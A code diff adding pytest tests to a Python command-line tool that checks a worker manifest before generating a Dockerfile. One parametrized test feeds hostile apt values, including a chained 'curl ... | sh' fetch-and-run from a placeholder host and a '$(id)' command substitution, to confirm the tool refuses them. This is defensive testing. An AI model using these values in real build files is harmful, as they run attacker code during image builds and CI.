@@ -186,6 +186,31 @@ def test_manifest_drives_packages_resources_scaling_env(worker_project: Path) ->
     assert "\nCRANK_BROKER_URL=sqlite:///crank-queue.db\n" in env_file
 
 
+@pytest.mark.parametrize(
+    "apt", ["pandoc && curl https://example.invalid/x | sh", "pandoc tesseract-ocr", "$(id)"]
+)
+def test_an_apt_value_that_is_not_one_package_is_refused(worker_project: Path, apt: str) -> None:
+    """It would run as shell in the image build and in CI (apt-get install <apt>)."""
+    manifest = _with_system_deps(worker_project)
+    manifest.write_text(manifest.read_text().replace("apt: pandoc", f"apt: {json.dumps(apt)}"))
+    before = (worker_project / "Dockerfile").read_text()
+    result = CliRunner().invoke(cli, ["check", "--fix", str(worker_project)])
+    assert result.exit_code == 2, result.output
+    assert "crank.yaml:32:10 CRK002 " in result.stderr  # where the apt value is
+    assert (worker_project / "Dockerfile").read_text() == before
+
+
+def test_an_apt_package_may_name_its_version(worker_project: Path) -> None:
+    manifest = _with_system_deps(worker_project)
+    manifest.write_text(manifest.read_text().replace("apt: pandoc", "apt: pandoc=3.1.3-1"))
+    runner = CliRunner()
+    assert runner.invoke(cli, ["check", "--fix", str(worker_project)]).exit_code == 0
+    dockerfile = (worker_project / "Dockerfile").read_text()
+    assert "--no-install-recommends pandoc=3.1.3-1 tesseract-ocr \\" in dockerfile
+    result = runner.invoke(cli, ["check", str(worker_project)])
+    assert result.exit_code == 0, result.output
+
+
 def test_gpu_required_uses_cuda_base_and_gpu_limits(gpu_worker: Path) -> None:
     files = {f.path: f.content for f in render_all(load_project(gpu_worker))}
     assert (
